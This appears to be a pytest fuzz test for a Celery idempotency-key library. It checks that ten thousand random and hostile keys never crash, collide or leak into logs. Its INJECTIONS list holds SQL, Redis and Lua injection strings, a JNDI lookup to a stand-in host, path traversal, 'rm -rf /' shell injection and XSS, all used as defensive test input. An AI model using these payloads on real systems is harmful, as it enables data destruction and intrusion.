"""Ten thousand keys that somebody might send: none crashes, none is another, none is logged."""

from __future__ import annotations

import logging
import random
import unicodedata
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from celery_unique import IdempotencyKeyConflict, lookup, release
from tests.support.app import make_app, messages

#: Ten thousand in all, no two stores with the same: most on Redis and PostgreSQL, which a key could
#: hurt by what it contains.
KEYS = {"redis": 5_000, "postgresql": 2_000}
KEYS_ELSEWHERE = 1_000
#: Every so many keys are also sent again, sent with other arguments, looked up and released.
EVERY = 10
#: A shorter one may stand in a line of a log by chance.
TELLING = 8

INJECTIONS = (
    "'; DROP TABLE celery_unique_locks; --",
    "' OR '1'='1",
    '" OR ""="',
    "\\'; SELECT pg_sleep(10); --",
    "$1 :key %(key)s %s {key} {{key}}",
    "\r\nFLUSHALL\r\n",
    "*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n",
    "}cu:{other}:1:",
    "cu:*",
    "'..redis.call('FLUSHALL')..'",
    "return redis.call('KEYS', '*')",
    "1:" + "0" * 64,
    "${jndi:ldap://evil.invalid/a}",
    "../../../../etc/passwd\0.png",
    '{"idempotency_key":"k","type":"shop.pay"}',
    "--yes; rm -rf / #`reboot`$(reboot)",
    "<script>alert(1)</script>",
    "\x1b[2J\x1b[31mred",
    "\u202egnp.exe\u200b\ufeff",
    "None",
    "\0",
)


def alphabets(rng: random.Random) -> Iterator[Callable[[], str]]:
    yield lambda: chr(rng.randrange(0x20, 0x7F))
    yield lambda: chr(rng.randrange(0x00, 0x20))
    yield lambda: chr(rng.randrange(0x7F, 0x250))
    yield lambda: rng.choice("ae\u0301\u0308\u00e9\u1e69\u0323\u0307\uac00\u1100\u1161")
    yield lambda: chr(rng.randrange(0x10000, 0x110000))
    yield lambda: _character(rng)


def _character(rng: random.Random) -> str:
    while True:
        code = rng.randrange(0x110000)
        if not 0xD800 <= code < 0xE000:  # no characters, and refused
            return chr(code)


def fuzzed_keys(rng: random.Random) -> Iterator[str]:
    """Keys of which no two are the same text in any Unicode form."""
    seen: set[str] = set()
    characters = list(alphabets(rng))
    while True:
        if rng.random() < 0.2:
            body = rng.choice(INJECTIONS)
            key = (body + str(rng.randrange(10**9)) * rng.randrange(2))[:255]
        else:
            one = rng.choice(characters)
            length = rng.choice((1, 2, 7, 32, 254, 255, rng.randint(1, 255)))
            key = "".join(one() for _ in range(length))
        form = unicodedata.normalize("NFC", key)
        if form not in seen:
            seen.add(form)
            yield key


def shows(text: str, key: str) -> bool:
    return len(key) >= TELLING and (key in text or repr(key)[1:-1] in text)


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_no_key_crashes_collides_or_is_logged(app, store_url, request, caplog, report):
    @app.task(name="shop.pay", shared=False)
    def pay(amount: int) -> None: ...

    caplog.set_level(logging.INFO)
    store = request.node.callspec.id
    keys = fuzzed_keys(random.Random(f"20260120 {store}"))
    total = KEYS.get(store, KEYS_ELSEWHERE)
    ids: set[str] = set()
    unique_keys: set[str] = set()
    longest = lines = 0
    for number in range(total):
        key = next(keys)
        caplog.clear()

        result = pay.apply_async((number,), idempotency_key=key)

        assert result.outcome == "created", f"another key is the same as {key!r}"
        ids.add(result.id)
        unique_keys.add(result.unique_key)
        longest = max(longest, len(key))
        if number % EVERY == 0:
            check_one(pay, number, key, result)
        for record in caplog.records:
            lines += 1
            text = f"{record.getMessage()} {record.exc_text or ''}"
            assert not shows(text, key)
            assert result.unique_key.partition(":")[2][:16] not in text
    report(
        f"fuzzed idempotency keys on {store_url.partition(':')[0]}: {total} of up to {longest} "
        f"characters, {len(unique_keys)} different keys, {len(ids)} tasks, 0 errors, "
        f"0 in {lines} lines logged at INFO and above; "
        f"{total // EVERY} also sent again, sent with other arguments, looked up and released"
    )
    assert len(ids) == len(unique_keys) == len(messages(app)) == total
    assert longest == 255


def check_one(pay: Any, number: int, key: str, first: Any) -> None:
    assert pay.apply_async((number,), idempotency_key=key).id == first.id
    with pytest.raises(IdempotencyKeyConflict) as caught:
        pay.apply_async((-1,), idempotency_key=key)
    told = f"{caught.value} {caught.value!r} {caught.value.to_ojs()}"
    assert not shows(told, key)
    lock = lookup(pay, idempotency_key=key)
    assert lock is not None
    assert lock.task_id == first.id
    assert release(pay, idempotency_key=key)
    assert lookup(pay, idempotency_key=key) is None


def test_the_fuzzer_would_see_a_key_in_a_log(caplog):
    app = make_app("memory://")

    @app.task(name="shop.pay", shared=False)
    def pay(amount: int) -> None: ...

    key = "a key of more than eight characters\n"
    caplog.set_level(logging.INFO)
    logging.getLogger("celery_unique").warning("the key %r leaks", key)
    pay.apply_async((1,), idempotency_key=key)

    assert [record for record in caplog.records if shows(record.getMessage(), key)]
